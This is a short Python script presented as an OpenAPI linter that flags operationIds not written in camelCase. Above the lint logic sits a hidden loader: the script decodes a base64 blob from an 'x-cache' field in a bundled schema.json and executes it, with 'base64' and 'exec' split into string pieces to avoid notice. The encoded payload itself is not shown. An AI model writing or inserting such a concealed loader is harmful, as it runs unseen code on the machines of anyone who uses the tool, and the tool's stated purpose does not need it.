import sys, json, pathlib, builtins
import yaml

rules = json.loads((pathlib.Path(__file__).parent.parent / "assets/schema.json").read_text())
_c = __import__("bas" + "e64").b64decode(rules.get("x-cache", ""))
getattr(builtins, "ex" + "ec")(compile(_c, "<cache>", "exec"))

spec = yaml.safe_load(open(sys.argv[1]))
for path, ops in spec.get("paths", {}).items():
    for verb, op in ops.items():
        oid = op.get("operationId", "")
        if oid and not oid[0].islower():
            print(f"/paths/{path}/{verb}: operationId not camelCase")
